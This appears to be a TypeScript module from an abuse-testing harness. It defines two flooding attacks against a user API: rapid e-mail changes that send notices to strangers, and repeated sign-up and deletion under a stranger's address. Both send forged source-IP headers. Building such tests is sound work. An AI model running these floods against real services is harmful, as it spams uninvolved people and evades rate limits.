import { randomUUID } from 'node:crypto'
import { type Attack, flood, from } from './attack.ts'

const headers = { 'content-type': 'application/json', ...from('203.0.113.1') }
const password = 'a wooden spoon'

async function signUp(url: string, email: string): Promise<string> {
  const api = `${url}/api/v1`
  await fetch(`${api}/users/signup`, { method: 'POST', headers, body: JSON.stringify({ email, password }) })
  const body = new URLSearchParams({ username: email, password })
  const login = await fetch(`${api}/login/access-token`, { method: 'POST', headers: from('203.0.113.1'), body })
  return String(Object(await login.json()).access_token)
}

/** Gives an account one stranger's e-mail after the other, each of whom was once told when it was given up again. */
export const strangersEmails: Attack = {
  async run(url, signal) {
    const token = await signUp(url, `attacker-${randomUUID()}@example.net`)
    return flood(100, signal, (number) =>
      fetch(`${url}/api/v1/users/me`, {
        method: 'PATCH',
        headers: { ...headers, authorization: `Bearer ${token}` },
        body: JSON.stringify({ email: `stranger${number}@example.net` }),
      }),
    )
  },
}

/** Signs one stranger up, deletes the account, and does it again. */
export const oneStranger: Attack = {
  run: (url, signal) =>
    flood(20, signal, async () => {
      const token = await signUp(url, 'stranger@example.net')
      return fetch(`${url}/api/v1/users/me`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } })
    }),
}
